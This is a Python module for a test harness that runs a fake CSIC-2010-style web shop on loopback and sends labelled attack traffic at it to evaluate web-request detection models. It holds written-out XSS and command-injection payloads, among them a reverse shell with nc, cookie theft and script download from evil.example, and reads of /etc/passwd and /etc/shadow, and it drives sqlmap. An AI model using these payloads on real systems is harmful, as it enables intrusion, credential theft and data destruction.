"""A small web shop to attack, and the attacks: labelled web traffic for judging web-request models.

The shop answers every path of the CSIC 2010 shop (``/tienda1/...``) on loopback, with a form page, and
writes every request it receives — method, target, form body, user agent, status, and the label the
harness set for the current phase — as NetWarden JSON lines. Normal traffic is *replayed* through it, and
attacks are *sent* to it, so both classes pass through the same server and the same log:

- ``sqli``: sqlmap itself (``python -m sqlmap`` or the ``sqlmap`` program, from Debian or PyPI) against
  pages with parameters, GET and POST;
- ``probe``: path probing — backups of the shop's own pages, admin consoles, version-control and
  configuration files, the way dirb/gobuster word lists do;
- ``tamper``: parameter tampering — renamed or invented parameters, text in numeric fields, values outside
  a field's choices, negative or huge numbers, a required parameter dropped;
- ``oversize``: oversized values (buffer-overflow style, 200 to 6,000 characters);
- ``xss`` and ``cmdi``: cross-site scripting and OS command injection payloads in a parameter.

Every attack except sqlmap's is built from a *shape* (path, method and parameters) of normal requests with
a seeded random generator, so the same seed gives the same requests.
"""

from __future__ import annotations

import json
import random
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

from netwarden.records import Event

FAMILIES = ("sqli", "probe", "tamper", "oversize", "xss", "cmdi")
MAX_BODY = 65_536
PAGE = (b"<html><body><form method='post'><input name='id'><input name='nombre'><input type='submit'></form>"
        b"<p>%s</p></body></html>")


class _Handler(BaseHTTPRequestHandler):
    server: Shop
    protocol_version = "HTTP/1.1"

    def _serve(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(min(length, MAX_BODY)).decode("latin-1") if length else ""
        path = self.path.partition("?")[0]
        status = 200 if path.startswith("/tienda1/") and (path.endswith((".jsp", ".jpg", ".gif"))) else 404
        text = self.path.encode("latin-1", "replace")[:200]
        payload = PAGE % text if status == 200 else b"not found"
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(payload)
        self.server.record(self, body, status, len(payload))

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = do_OPTIONS = do_PATCH = _serve

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the stdlib's name
        pass  # the shop writes its own log


class Shop(ThreadingHTTPServer):
    """``with Shop(log_path) as shop: shop.label = "normal"; ...`` — a shop on ``shop.url`` (loopback)."""

    daemon_threads = True

    def __init__(self, log_path: Path | str, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), _Handler)
        self.log = Path(log_path).open("a", encoding="utf-8")
        self.label = "normal"
        self.requests = 0
        self._lock = threading.Lock()
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def __enter__(self) -> Shop:
        self._thread.start()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.shutdown()
        self.server_close()
        self.log.close()

    def record(self, handler: _Handler, body: str, status: int, size: int) -> None:
        event = Event(timestamp=datetime.now(UTC), source_kind="access_log", src_ip=handler.client_address[0],
                      dst_ip="127.0.0.1", dst_port=self.server_address[1], app_protocol="http",
                      http_method=handler.command, url=handler.path, http_status=status, bytes_in=size,
                      user_agent=handler.headers.get("User-Agent"), label=self.label,
                      extra={"body": body} if body else {})
        line = json.dumps(event.to_dict(), ensure_ascii=False)
        with self._lock:
            self.log.write(line + "\n")
            self.log.flush()
            self.requests += 1


# -- sending requests ---------------------------------------------------------------------------------

Shape = tuple[str, str, list[tuple[str, str]]]  # method, path, [(name, raw value)]


def shapes_of(events: Iterable[Event]) -> list[Shape]:
    """(method, path, parameters) of requests, values still percent-encoded: what attacks are built from."""
    out = []
    for e in events:
        path, _, query = (e.url or "/").partition("?")
        text = e.extra.get("body") or query
        params = [tuple(p.partition("=")[::2]) for p in text.split("&") if p] if text else []
        out.append(((e.http_method or "GET").upper(), path, params))
    return out


def send(base_url: str, requests: Iterable[Shape], agent: str = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
         timeout: float = 10.0) -> int:
    """Send requests (GET parameters in the query, POST parameters as a form body); returns how many."""
    import http.client
    from urllib.parse import urlsplit

    parts = urlsplit(base_url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)
    sent = 0
    try:
        for method, path, params in requests:
            text = "&".join(f"{k}={v}" for k, v in params)
            headers = {"User-Agent": agent, "Connection": "keep-alive"}
            if method in ("POST", "PUT") and params:
                headers["Content-Type"] = "application/x-www-form-urlencoded"
                target, body = path, text.encode("latin-1", "replace")
            else:
                target, body = (f"{path}?{text}" if text else path), None
            for attempt in range(2):  # a keep-alive connection the server closed: reconnect once
                try:
                    conn.request(method, target, body=body, headers=headers)
                    conn.getresponse().read()
                    break
                except (http.client.HTTPException, OSError):
                    conn.close()
                    if attempt:
                        raise
            sent += 1
    finally:
        conn.close()
    return sent


# -- the attacks ------------------------------------------------------------------------------------

PROBE_PATHS = (
    "/admin/", "/administrator/", "/phpmyadmin/", "/manager/html", "/.git/config", "/.env", "/.htaccess",
    "/WEB-INF/web.xml", "/server-status", "/backup.zip", "/db.sql", "/config.php", "/wp-login.php",
    "/console", "/tienda1/admin.jsp", "/tienda1/config.inc", "/tienda1/.DS_Store", "/tienda1/test.jsp",
    "/tienda1/publico/", "/tienda1/miembros/", "/tienda1/imagenes/", "/robots.txt", "/crossdomain.xml",
    "/tienda1/web.config", "/tienda1/install.jsp", "/tienda1/login.jsp", "/cgi-bin/test.cgi", "/.svn/entries",
)
BACKUP_SUFFIXES = (".bak", ".old", "~", ".orig", ".save", ".swp", ".zip", ".tar.gz", ".txt", ".1", ".inc")
XSS = (
    "<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert('xss')>", "javascript:alert(1)", "'><iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "\"onmouseover=\"alert(1)",
    "<ScRiPt>prompt(1)</sCrIpT>", "<img src=\"x\" onerror=\"this.src='http://evil.example/'+document.cookie\">",
)
CMDI = (
    "; cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& ls -la /", "; ping -c 3 127.0.0.1",
    "| nc -e /bin/sh 10.0.0.1 4444", "; wget http://evil.example/x.sh -O /tmp/x.sh", "|| cat /etc/shadow",
    "; sleep 10", "$(curl evil.example)", "; rm -rf /tmp/*", "| ls", "%0Aid", "; echo pwned > /tmp/p",
)
INVENTED = ("admin", "debug", "isAdmin", "role", "price", "discount", "cmd", "exec", "file", "redirect", "token")


def _enc(text: str) -> str:
    return quote_plus(text, safe="", encoding="latin-1", errors="replace")


def attacks(family: str, shapes: Sequence[Shape], count: int, seed: int = 7) -> list[Shape]:
    """``count`` attack requests of ``family`` (not sqli: that is sqlmap's), built from normal shapes."""
    rng = random.Random(f"{family}:{seed}")
    with_params = [s for s in shapes if s[2]]
    paths = sorted({s[1] for s in shapes})
    out: list[Shape] = []
    for _ in range(count):
        method, path, params = rng.choice(with_params)
        params = list(params)
        i = rng.randrange(len(params))
        name, value = params[i]
        if family == "probe":
            if rng.random() < 0.5:
                out.append((rng.choice(("GET", "GET", "HEAD")), rng.choice(PROBE_PATHS), []))
            else:
                out.append(("GET", rng.choice(paths) + rng.choice(BACKUP_SUFFIXES), []))
            continue
        if family == "xss":
            params[i] = (name, _enc(rng.choice(XSS)))
        elif family == "cmdi":
            params[i] = (name, _enc(rng.choice(("", value)) + rng.choice(CMDI)))
        elif family == "oversize":
            size = rng.choice((200, 500, 1000, 2500, 6000))
            filler = rng.choice(("A" * size, "%41" * size, "".join(rng.choice("abcdefgh0123456789")
                                                                  for _ in range(size))))
            params[i] = (name, filler)
        elif family == "tamper":
            params = _tamper(rng, params, i)
        else:
            raise ValueError(f"unknown attack family {family!r}; choose from {', '.join(FAMILIES)}")
        out.append((method, path, params))
    return out


def _tamper(rng: random.Random, params: list[tuple[str, str]], i: int) -> list[tuple[str, str]]:
    name, value = params[i]
    how = rng.randrange(6)
    if how == 0:  # renamed parameter (CSIC's "precioA")
        params[i] = (name + rng.choice(("A", "_", "1", "x")), value)
    elif how == 1:  # an invented parameter added
        params.append((rng.choice(INVENTED), rng.choice(("1", "true", "0", "yes"))))
    elif how == 2:  # text where the application expects a number or a choice
        params[i] = (name, rng.choice(("abc", "null", "undefined", "NaN", "%27", "-", "0x41")))
    elif how == 3:  # a negative or huge number
        params[i] = (name, rng.choice(("-1", "-9999", "99999999999", "1e308", "-0.01")))
    elif how == 4 and len(params) > 1:  # a parameter dropped
        del params[i]
    else:  # duplicate parameter with another value (parameter pollution)
        params.append((name, rng.choice(("0", "-1", "admin", "9999999"))))
    return params


def sqlmap_command() -> list[str] | None:
    """How to run sqlmap here (Debian's program or the PyPI package), or None when it is not installed."""
    program = shutil.which("sqlmap")
    if program:
        return [program]
    try:
        import sqlmap  # noqa: F401
    except ImportError:
        return None
    return [sys.executable, "-m", "sqlmap.sqlmap"]


def run_sqlmap(base_url: str, shape: Shape, *, level: int = 1, workdir: Path, timeout: float = 300) -> None:
    """sqlmap against one page and its parameters (GET or POST), non-interactive, quiet, no state kept."""
    command = sqlmap_command()
    if command is None:
        raise RuntimeError("sqlmap is not installed (pip install sqlmap, or apt-get install sqlmap)")
    method, path, params = shape
    text = "&".join(f"{k}={v}" for k, v in params)
    args = [*command, "--batch", "--flush-session", f"--level={level}", "--risk=1", "--random-agent",
            "--disable-coloring", f"--output-dir={workdir}", "--timeout=5", "--retries=0", "--threads=1",
            "--skip-waf", "--technique=BEUS"]
    if method == "POST":
        args += ["-u", base_url + path, f"--data={text}"]
    else:
        args += ["-u", f"{base_url}{path}?{text}"]
    try:
        subprocess.run(args, cwd=workdir, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=timeout,
                       check=False, stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        pass  # a page with many parameters takes long: what sqlmap sent until then is the traffic we keep
